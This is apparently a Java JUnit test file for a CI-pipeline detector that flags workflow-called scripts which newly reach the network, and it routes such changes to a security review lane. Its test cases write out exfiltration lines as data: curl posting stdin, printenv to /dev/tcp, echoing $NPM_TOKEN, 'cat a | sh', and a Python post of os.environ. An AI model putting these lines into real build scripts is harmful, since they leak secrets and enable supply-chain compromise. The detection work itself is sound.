package dev.countersign.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.detect.pipeline.CalledScript;
import dev.countersign.risk.Lane;
import java.util.List;
import org.junit.jupiter.api.Test;

class CalledScriptTest extends DetectorTable {
    private static final String PATH = "scripts/release.sh";
    private static final String SCRIPT = "#!/bin/sh\nmake dist\n";
    private static final String CALLS = """
            on: push
            jobs:
              release:
                runs-on: ubuntu-latest
                steps:
                  - run: ./scripts/release.sh
            """;

    private static Case gains(String name, String line) {
        return Case.of(name)
                .modified(PATH, SCRIPT, SCRIPT + line + "\n")
                .beside(".github/workflows/nightly-7.yml", CALLS);
    }

    @Override
    Detector detector() {
        return new CalledScript();
    }

    @Override
    List<Case> positives() {
        return List.of(
                gains("sends something", "curl -d @- https://x.example/").sees(FactKind.PIPELINE_CHANGED, 3),
                gains("sends all variables", "printenv > /dev/tcp/x/1").sees(FactKind.PIPELINE_CHANGED, 3),
                gains("reads a secret", "echo $NPM_TOKEN > a").sees(FactKind.PIPELINE_CHANGED, 3),
                gains("runs what it gets", "cat a | sh").sees(FactKind.PIPELINE_CHANGED, 3),
                gains("publishes", "npm publish").sees(FactKind.PIPELINE_CHANGED, 3),
                Case.of("another address")
                        .modified(PATH, SCRIPT + "curl https://a.example/\n", SCRIPT + "curl https://b.example/\n")
                        .beside(".github/workflows/a.yml", CALLS)
                        .sees(FactKind.PIPELINE_CHANGED, 3),
                Case.of("in Python")
                        .modified("ci/up.py", "import os\n", "import os\nrequests.post(URL, data=os.environ)\n")
                        .beside(".github/workflows/a.yml", CALLS.replace("./scripts/release.sh", "python ci/up.py"))
                        .sees(FactKind.PIPELINE_CHANGED, 2),
                Case.of("script that comes with its call")
                        .added(PATH, SCRIPT + "wget x\n")
                        .added(".github/workflows/a.yml", CALLS)
                        .sees(FactKind.PIPELINE_CHANGED, 3));
    }

    /// Back to the old address is another address as well.
    @Override
    boolean wayBackIsHarmless() {
        return false;
    }

    @Override
    List<Case> lookAlikes() {
        return List.of(
                gains("builds more", "make docs"),
                gains("says something", "# curl https://x.example/"),
                Case.of("script that nothing calls").modified(PATH, SCRIPT, SCRIPT + "curl https://x.example/\n"),
                Case.of("script with a longer name")
                        .modified("scripts/my-release.sh", SCRIPT, SCRIPT + "curl https://x.example/\n")
                        .beside(".github/workflows/a.yml", CALLS),
                Case.of("call in what is no workflow")
                        .modified(PATH, SCRIPT, SCRIPT + "curl https://x.example/\n")
                        .beside("ci/a.yml", CALLS),
                Case.of("same call with other switches")
                        .modified(PATH, SCRIPT + "curl -s https://a.example/\n", SCRIPT + "curl https://a.example/\n")
                        .beside(".github/workflows/a.yml", CALLS),
                Case.of("no longer reaches out")
                        .modified(PATH, SCRIPT + "curl https://a.example/\n", SCRIPT)
                        .beside(".github/workflows/a.yml", CALLS));
    }

    @Test
    void newReachIsForSecurityAndOtherEditsAreNot() {
        assertThat(lane(gains("reaches out", "curl https://x.example/"))).isEqualTo(Lane.SECURITY);
        assertThat(lane(gains("builds", "make docs"))).isEqualTo(Lane.PEER);
    }

    private static Lane lane(Case row) {
        return new RealReview().of(Draft.of(row).saying("Release it")).tableLane();
    }
}
